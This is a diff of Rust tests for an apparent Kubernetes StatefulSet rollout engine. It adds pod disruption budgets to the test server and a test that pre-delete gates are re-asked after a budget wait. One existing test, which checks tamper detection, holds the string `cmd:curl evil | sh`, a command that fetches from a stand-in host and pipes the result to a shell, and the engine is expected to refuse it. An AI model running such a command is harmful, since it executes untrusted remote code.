@@ -21,10 +21,11 @@ fn key() -> ObjRef {
     ObjRef::new("default", "web")
 }
 
-/// The server: the set as stored, its pods.
+/// The server: the set as stored, its pods, the namespace's disruption budgets.
 struct Server {
     set: StatefulSet,
     pods: BTreeMap<i32, Pod>,
+    budgets: Vec<k8s_openapi::api::policy::v1::PodDisruptionBudget>,
 }
 
 impl Server {
@@ -50,7 +51,7 @@ impl Server {
             ..Default::default()
         });
         let pods = (0..4).map(|o| (o, pod(o, "a", Some(0)))).collect();
-        Server { set: s, pods }
+        Server { set: s, pods, budgets: Vec::new() }
     }
 
     /// Carries out a set write as a server would (the precondition: the decision's basis).
@@ -123,8 +124,20 @@ fn turn(
     now: i64,
     fresh: bool,
 ) -> Act {
+    turn_with(e, set, pods, &[], now, fresh)
+}
+
+/// [`turn`] with the namespace's budgets.
+fn turn_with(
+    e: &mut Engine,
+    set: &StatefulSet,
+    pods: &BTreeMap<i32, Pod>,
+    budgets: &[k8s_openapi::api::policy::v1::PodDisruptionBudget],
+    now: i64,
+    fresh: bool,
+) -> Act {
     let pods: Vec<(i32, &Pod)> = pods.iter().map(|(o, p)| (*o, p)).collect();
-    let budgets = [];
+    let budgets: Vec<&k8s_openapi::api::policy::v1::PodDisruptionBudget> = budgets.iter().collect();
     let min_ready = Default::default();
     let view =
         View { set, pods: &pods, now: at(now), min_ready, frozen: None, fresh, budgets: &budgets };
@@ -136,7 +149,7 @@ fn turn(
 fn settle(e: &mut Engine, srv: &mut Server, now: i64) -> Act {
     for _ in 0..20 {
         let set = srv.set.clone();
-        match turn(e, &set, &srv.pods, now, true) {
+        match turn_with(e, &set, &srv.pods, &srv.budgets.clone(), now, true) {
             Act::Write(w) => {
                 let result = srv.write(&w, at(now)).map(Some);
                 e.wrote(at(now), result);
@@ -441,7 +454,7 @@ fn a_gated_step_opens_one_ordinal_after_its_gate_and_a_resume_asks_the_gate_agai
         .insert(PLAN.into(), serde_json::to_string(&tampered).unwrap());
     evil.metadata.annotations.as_mut().unwrap().remove(LEASE);
     let mut second = Engine::new(config(true), gated_ask("1,100%", "cmd:./drain.sh {pod}", 5));
-    let mut srv2 = Server { set: evil, pods: srv.pods.clone() };
+    let mut srv2 = Server { set: evil, pods: srv.pods.clone(), budgets: Vec::new() };
     let act = settle(&mut second, &mut srv2, 40);
     let Act::End(End::Refused { why, .. }) = act else { panic!("{act:?}") };
     assert!(why.contains("gates: recorded pre-delete `cmd:curl evil | sh`"), "{why}");
@@ -471,4 +484,54 @@ fn a_not_yet_is_asked_again_after_the_interval_and_too_many_halt() {
     let why = r.reason.unwrap();
     assert!(why.contains("pre-delete gate `cmd:./isr.sh` on web-3 still not ready after 2 tries (exit 75): isr 2/3"), "{why}");
     assert_eq!(srv.partition(), 4, "nothing opened");
+}
+
+/// A budget over every pod of the namespace allowing `allowed` disruptions.
+fn budget(allowed: i32) -> k8s_openapi::api::policy::v1::PodDisruptionBudget {
+    let mut b = k8s_openapi::api::policy::v1::PodDisruptionBudget::default();
+    b.metadata.name = Some("web".into());
+    b.metadata.namespace = Some("default".into());
+    b.spec = Some(k8s_openapi::api::policy::v1::PodDisruptionBudgetSpec {
+        selector: Some(Default::default()),
+        ..Default::default()
+    });
+    b.status = Some(k8s_openapi::api::policy::v1::PodDisruptionBudgetStatus {
+        disruptions_allowed: Some(allowed),
+        current_healthy: Some(4),
+        desired_healthy: Some(4 - allowed),
+        ..Default::default()
+    });
+    b
+}
+
+/// Gates are the last word before a pod goes: a budget allowing nothing holds the step before
+/// its pre-delete gate is asked, and a gate that passed before a budget held the opening is
+/// asked again once the budget allows (its answer is stale by then).
+#[test]
+fn a_pre_delete_gate_is_asked_after_the_budget_and_again_after_a_budget_wait() {
+    use crate::plan::gate::Verdict;
+    let mut srv = Server::new();
+    srv.budgets = vec![budget(0)];
+    let mut e = Engine::new(config(true), gated_ask("1,100%", "cmd:./isr.sh {pod}", 5));
+    let act = settle(&mut e, &mut srv, 0);
+    let Act::Wait { words, .. } = act else { panic!("the gate ran under the budget: {act:?}") };
+    assert!(words.contains("waits for pdb/web"), "{words}");
+    assert!(words.contains("before asking the pre-delete gate on web-3"), "{words}");
+    // The budget allows one: the gate is asked, and passes.
+    srv.budgets = vec![budget(1)];
+    assert!(matches!(settle(&mut e, &mut srv, 3), Act::Gate(_)));
+    e.gated(outcome(Verdict::Go, "exit 0"));
+    // Before the opening, the budget allows nothing again: nothing opens, the pass is dropped.
+    srv.budgets = vec![budget(0)];
+    let act = settle(&mut e, &mut srv, 4);
+    assert!(matches!(act, Act::Wait { .. }), "{act:?}");
+    assert_eq!(srv.partition(), 4, "nothing opened under the budget");
+    // Allowed again: the gate is asked again before web-3 goes, not taken from the first pass.
+    srv.budgets = vec![budget(1)];
+    let act = settle(&mut e, &mut srv, 8);
+    assert!(matches!(act, Act::Gate(_)), "the stale pass was used: {act:?}");
+    assert_eq!(srv.partition(), 4);
+    e.gated(outcome(Verdict::Go, "exit 0"));
+    settle(&mut e, &mut srv, 9);
+    assert_eq!(srv.partition(), 3, "web-3 opened after its fresh pass");
 }
